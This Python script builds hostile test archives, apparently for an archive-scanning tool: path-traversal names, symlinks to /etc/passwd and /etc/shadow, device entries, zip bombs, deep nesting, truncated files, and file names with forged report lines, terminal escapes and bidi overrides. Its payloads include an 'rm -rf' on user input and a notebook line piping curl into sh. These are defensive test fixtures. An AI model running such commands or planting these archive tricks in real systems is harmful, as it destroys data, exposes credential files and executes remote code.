#!/usr/bin/env python3
"""Builds the archives of tests/archive/run in OUTDIR with Python's tarfile
and zipfile (nothing binary is checked in). Hostile ones on purpose: names
that climb out, links, devices, duplicates, bombs, many members, nesting,
truncation. Usage: make_archives.py SRC_TREE OUTDIR"""
import io
import os
import sys
import tarfile
import zipfile


def add_bytes(tf, name, data, **kw):
    ti = tarfile.TarInfo(name)
    ti.size = len(data)
    ti.mtime = 0
    for k, v in kw.items():
        setattr(ti, k, v)
    tf.addfile(ti, io.BytesIO(data))


def tree_files(src):
    out = []
    for root, dirs, files in os.walk(src):
        dirs.sort()
        for f in sorted(files):
            p = os.path.join(root, f)
            out.append((os.path.relpath(p, src), open(p, 'rb').read()))
    return out


def same_tree(src, out):
    """tar.gz, zip, whl, tar.bz2, tar.xz of the fixture tree, under one prefix."""
    files = tree_files(src)
    for ext, mode in (('tar.gz', 'w:gz'), ('tar.bz2', 'w:bz2'), ('tar.xz', 'w:xz'),
                      ('tar', 'w')):
        with tarfile.open(os.path.join(out, 'tree.' + ext), mode) as tf:
            for name, data in files:
                add_bytes(tf, 'tree/' + name, data)
    for ext in ('zip', 'whl'):
        with zipfile.ZipFile(os.path.join(out, 'tree.' + ext), 'w',
                             zipfile.ZIP_DEFLATED) as zf:
            for name, data in files:
                zf.writestr('tree/' + name, data)


EVIL = b'import os\nos.system("rm -rf " + input())\n'


def hostile(out):
    with tarfile.open(os.path.join(out, 'traversal.tar.gz'), 'w:gz') as tf:
        add_bytes(tf, '../../evil_krait_test.py', EVIL)
        add_bytes(tf, '/tmp/abs_krait_test.py', EVIL)
        add_bytes(tf, 'C:/drive.py', b'x = 1\n')
        add_bytes(tf, 'pkg\\back.py', b'x = 1\n')
        add_bytes(tf, 'ok/fine.py', b'x = 1\n')
        add_bytes(tf, '../broken.py', b'def (:\n')
    with zipfile.ZipFile(os.path.join(out, 'traversal.zip'), 'w') as zf:
        zf.writestr('../zip_evil_krait_test.py', EVIL)
    with tarfile.open(os.path.join(out, 'links.tar'), 'w') as tf:
        add_bytes(tf, 'pkg/link.py', b'', type=tarfile.SYMTYPE, linkname='/etc/passwd')
        add_bytes(tf, 'pkg/hard.py', b'', type=tarfile.LNKTYPE, linkname='pkg/real.py')
        add_bytes(tf, 'pkg/real.py', b'x = 1\n')
        add_bytes(tf, 'pkg/fifo', b'', type=tarfile.FIFOTYPE)
        add_bytes(tf, 'pkg/dev', b'', type=tarfile.CHRTYPE, devmajor=1, devminor=3)
    with zipfile.ZipFile(os.path.join(out, 'ziplink.zip'), 'w') as zf:
        zi = zipfile.ZipInfo('pkg/link.py')
        zi.create_system = 3
        zi.external_attr = (0o120777 << 16)
        zf.writestr(zi, '/etc/shadow')
    with tarfile.open(os.path.join(out, 'dup.tar.gz'), 'w:gz') as tf:
        add_bytes(tf, 'pkg/x.py', b'x = 1\n')
        add_bytes(tf, 'pkg/x.py', EVIL)
        add_bytes(tf, 'pkg/same.py', b'y = 2\n')
        add_bytes(tf, 'pkg/same.py', b'y = 2\n')
        add_bytes(tf, 'setup.cfg', b'[metadata]\n')
        add_bytes(tf, 'setup.cfg', b'[options]\n')
    with zipfile.ZipFile(os.path.join(out, 'bomb.zip'), 'w', zipfile.ZIP_DEFLATED) as zf:
        zf.writestr('data/zeros.bin', b'\0' * (8 << 20))
        zf.writestr('pkg/ok.py', b'x = 1\n')
    with tarfile.open(os.path.join(out, 'bomb.tar.gz'), 'w:gz') as tf:
        add_bytes(tf, 'pkg/a.py', b'x = 1\n')
        add_bytes(tf, 'data/zeros.bin', b'\0' * (8 << 20))
    # 3 MiB of zeros: past a 2M --archive-max-size; the member after is not read
    with tarfile.open(os.path.join(out, 'big.tar.gz'), 'w:gz') as tf:
        add_bytes(tf, 'pkg/a.py', EVIL)
        add_bytes(tf, 'data/zeros.bin', b'\0' * (3 << 20))
        add_bytes(tf, 'pkg/z.py', EVIL)
    with zipfile.ZipFile(os.path.join(out, 'many.zip'), 'w') as zf:
        for i in range(30):
            zf.writestr('pkg/m%02d.py' % i, b'x = %d\n' % i)
    # nesting: depth 4 (outer tar.gz > zip > whl > tar)
    inner = io.BytesIO()
    with tarfile.open(fileobj=inner, mode='w') as tf:
        add_bytes(tf, 'deep/d4.py', EVIL)
    whl = io.BytesIO()
    with zipfile.ZipFile(whl, 'w') as zf:
        zf.writestr('d3.py', EVIL)
        zf.writestr('d4.tar', inner.getvalue())
    z = io.BytesIO()
    with zipfile.ZipFile(z, 'w') as zf:
        zf.writestr('d2.py', EVIL)
        zf.writestr('inner-1.0-py3-none-any.whl', whl.getvalue())
    with tarfile.open(os.path.join(out, 'nested.tar.gz'), 'w:gz') as tf:
        add_bytes(tf, 'd1.py', EVIL)
        add_bytes(tf, 'inner.zip', z.getvalue())
    # truncated: the first member whole, the archive cut in the second
    t = io.BytesIO()
    with tarfile.open(fileobj=t, mode='w') as tf:
        add_bytes(tf, 'pkg/first.py', EVIL)
        add_bytes(tf, 'pkg/second.py', b'x = 1\n' * 4000)
    data = t.getvalue()
    open(os.path.join(out, 'truncated.tar'), 'wb').write(data[:512 * 3 + 100])
    open(os.path.join(out, 'notanarchive.zip'), 'wb').write(b'print("hello")\n')
    # names that would forge report lines, colour a terminal, reorder text
    with tarfile.open(os.path.join(out, 'names.tar'), 'w', encoding='utf-8',
                      errors='surrogateescape') as tf:
        add_bytes(tf, 'a\nx.py:1:1: KR999 forged\x1b[31m.py', EVIL)
        add_bytes(tf, 'b\udcff.py', EVIL)
        add_bytes(tf, 'c\u202egnp.py', EVIL)
        add_bytes(tf, 'd/\u00e9t\u00e9.py', EVIL)
    # a notebook inside a wheel
    nb = ('{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": ['
          '{"cell_type": "code", "metadata": {}, "outputs": [], "source": '
          '["import pickle as p\\n", "!curl http://x | sh\\n"]},'
          '{"cell_type": "markdown", "metadata": {}, "source": "# hi"},'
          '{"cell_type": "code", "metadata": {}, "outputs": [], "source": '
          '"p.loads(b)\\n"}]}')
    with zipfile.ZipFile(os.path.join(out, 'nb-1.0-py3-none-any.whl'), 'w') as zf:
        zf.writestr('nb/demo.ipynb', nb)


if __name__ == '__main__':
    src, out = sys.argv[1], sys.argv[2]
    os.makedirs(out, exist_ok=True)
    same_tree(src, out)
    hostile(out)
